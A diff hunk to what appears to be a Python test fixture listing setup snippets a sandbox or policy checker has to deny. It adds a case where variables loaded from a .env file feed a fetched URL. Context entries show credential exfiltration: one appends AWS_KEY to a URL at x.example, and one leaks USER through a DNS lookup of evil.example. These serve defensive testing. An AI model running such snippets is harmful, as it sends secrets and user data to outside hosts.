@@ -277,6 +277,13 @@ DENIED_SETUP = {
         "os.environ.update({'HOME_URL': 'https://x.example/?k=' + os.environ['AWS_KEY']})\n"
         "urllib.request.urlopen(os.environ['HOME_URL'])\n"
     ),
+    # Variables loaded from a shipped file, which may spell another variable into a URL.
+    "variables-loaded-from-a-file": (
+        "import os, urllib.request\n"
+        "from dotenv import load_dotenv\n"
+        "load_dotenv()\n"
+        "urllib.request.urlopen(os.environ['HOME_URL'])\n"
+    ),
     # A variable leading a name looked up: DNS exfiltration, whatever leads.
     "variable-leading-a-name-looked-up": (
         "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.evil.example')\n"
